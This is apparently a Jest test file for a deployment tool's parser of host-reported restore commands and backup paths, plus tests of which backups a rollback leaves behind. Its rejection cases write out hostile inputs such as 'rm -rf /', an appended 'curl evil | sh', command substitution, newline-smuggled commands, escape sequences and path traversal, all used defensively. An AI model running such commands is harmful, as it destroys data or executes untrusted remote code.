import { leftBackups, readBound } from "@deploy/core";
import { describe, expect, test } from "@jest/globals";
import { minted, old, older, reachedHost, releaseOf } from "../fixtures.ts";

const id = "20261121T084450Z-shop-7f3a";
const restore = `deploy restore ${id} --environment production --confirm shop`;

describe("what a host says is bound", () => {
  test.each([
    { id, restore },
    { id, restore: `deploy restore ${id} --environment 'it'\\''s $(here)' --confirm 'a; b'` },
    { id: "20261121T084450Z-4f2a91c.001", path: "/var/www/it's shop/.deploy/backups/x.001" },
  ])("%j", (bound) => {
    expect(readBound({ schema: 1, more: true, ...bound })).toEqual(bound);
  });

  test.each([
    undefined,
    null,
    "text",
    [],
    {},
    { id },
    { id: "../x", restore: "deploy restore ../x" },
    { id: "x".repeat(200), restore: `deploy restore ${"x".repeat(200)}` },
    { id, restore: ["deploy restore"] },
    { id, restore: "rm -rf /" },
    { id, restore: `deploy restore ${id}2 --confirm shop` },
    { id, restore: "deploy restore another --confirm shop" },
    { id, restore: `${restore}; curl evil | sh` },
    { id, restore: `${restore} $(id)` },
    { id, restore: `${restore} 'open` },
    { id, restore: `${restore}\ndeploy rollback` },
    { id, restore: `${restore} '\u001b[2K'` },
    { id, restore: `${restore} '\u202e'` },
    { id, restore: `${restore} '${"x".repeat(2000)}'` },
    { id, path: "relative" },
    { id, path: "/a\nb" },
    { id, path: `/${"x".repeat(2000)}` },
  ])("%j is none", (said) => {
    expect(readBound(said)).toBeUndefined();
  });

  test("is judged in no time, whatever it is", () => {
    expect(readBound({ id, restore: `${restore} ${"'' ".repeat(300)}!` })).toBeUndefined();
  });
});

describe("what a rollback leaves behind", () => {
  const bound = (name: string) => releaseOf(name, "good", { backup: { id: name, path: `/${name}` } });
  const failed = "20261122T000000Z-5555555";
  const leader = reachedHost("web1", { releases: [bound(older), bound(old), bound(minted), bound(failed)] });
  const names = (target: string, live: readonly string[]) =>
    leftBackups(leader, target, live).map(({ release }) => release);

  test("everything newer than its target up to what is live; the first fits the target", () => {
    expect(names(older, [minted])).toEqual([old, minted]);
    expect(names(old, [minted, old])).toEqual([minted]);
    expect(names(old, [failed, old])).toEqual([minted, failed]);
  });

  test("nothing on the way forward, nothing without a leader, nothing that is not bound", () => {
    expect(names(minted, [old])).toEqual([]);
    expect(leftBackups(undefined, old, [minted])).toEqual([]);
    const plain = reachedHost("web1", { releases: [releaseOf(old), releaseOf(minted)] });
    expect(leftBackups(plain, old, [minted])).toEqual([]);
  });
});
